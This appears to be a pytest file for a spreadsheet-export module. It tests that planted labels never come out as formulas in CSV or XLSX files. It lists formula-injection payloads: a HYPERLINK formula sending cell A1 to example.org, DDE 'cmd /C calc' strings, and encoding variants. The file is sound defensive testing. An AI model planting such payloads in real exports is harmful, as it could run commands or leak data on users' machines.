"""A label that a spreadsheet would run as a formula is shown as text instead.

Labels come from a signed edition, so whoever plants one needs the Board's signatures;
a board member's spreadsheet must be safe all the same.
"""

import csv
import io
import zipfile

import openpyxl
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from coordinator import flat
from coordinator.exports import file, workbook
from coordinator.exports.file import Format
from coordinator.exports.plain import harmless
from coordinator.flat import COLUMNS, FlatRow
from tests.published_samples import METRICS, cell, estimate, result

PLANTED = [
    '=HYPERLINK("https://example.org/?"&A1,"see")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "  =1+1",
    "a;=1+1",
    'a"\t=1+1',
    "\uff1d1+1",
    "\x00=1+1",
]
STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"


def rows(planted: str) -> tuple[FlatRow, ...]:
    """Return rows in which a planted text stands wherever a text can come from."""
    published = result(
        "M04",
        cell(estimate(0.4, 0.01), intake_channel=planted),
        cell(estimate(0.4, 0.01), "NYC", **{planted: "x"}),
        note=planted,
    )
    return flat.rows(published, METRICS["M04"], training=False)


def starts_a_formula(text: str) -> bool:
    """Tell whether a spreadsheet might run a text: leading space is no protection."""
    return text.strip()[:1] in tuple(STARTS)


@pytest.mark.parametrize("planted", PLANTED)
def test_no_cell_of_a_csv_begins_a_formula(planted: str) -> None:
    data = file.content(rows(planted), Format.CSV).decode()
    for separator in ",;\t":
        for line in csv.reader(io.StringIO(data, newline=""), delimiter=separator):
            for text in line:
                assert not starts_a_formula(text) or is_number(text)


def is_number(text: str) -> bool:
    """Tell whether a text is just a number."""
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.mark.parametrize("planted", PLANTED)
def test_no_cell_of_a_workbook_is_a_formula_or_begins_one(planted: str) -> None:
    data = file.content(rows(planted), Format.XLSX)
    book = openpyxl.load_workbook(io.BytesIO(data))
    for sheet in book.worksheets:
        for line in sheet.iter_rows():
            for each in line:
                assert each.data_type != "f"
                assert not (
                    isinstance(each.value, str) and starts_a_formula(each.value)
                )
    with zipfile.ZipFile(io.BytesIO(data)) as parts:
        sheets = [name for name in parts.namelist() if "/worksheets/" in name]
        assert not any(b"<f>" in parts.read(name) for name in sheets)


def test_the_check_can_fail() -> None:
    book = openpyxl.Workbook()
    book.worksheets[0].append(["=1+1"])
    kept = io.BytesIO()
    book.save(kept)
    again = openpyxl.load_workbook(io.BytesIO(kept.getvalue()))
    assert again.worksheets[0]["A1"].data_type == "f"
    assert starts_a_formula(" =1+1")


@given(st.text())
@example("=;=;=")
@example("'=")
def test_no_text_comes_out_as_a_formula(text: str) -> None:
    shown = harmless(text)
    assert not starts_a_formula(shown)
    assert not any(starts_a_formula(part) for part in shown.split(";"))
    assert harmless(shown) == shown


@pytest.mark.parametrize("number", [-0.5, -1e-300, -12345678.9, 0.0])
def test_a_number_below_zero_stays_a_number(number: float) -> None:
    changed = (FlatRow(**rows("legal_aid")[0].content() | {"low": number}),)
    text = file.content(changed, Format.CSV).decode()
    line = next(csv.DictReader(io.StringIO(text, newline="")))
    assert float(line["low"]) == number
    book = openpyxl.load_workbook(io.BytesIO(file.content(changed, Format.XLSX)))
    kept = book[workbook.VALUES].cell(2, COLUMNS.index("low") + 1)
    assert (kept.data_type, kept.value) == ("n", number)
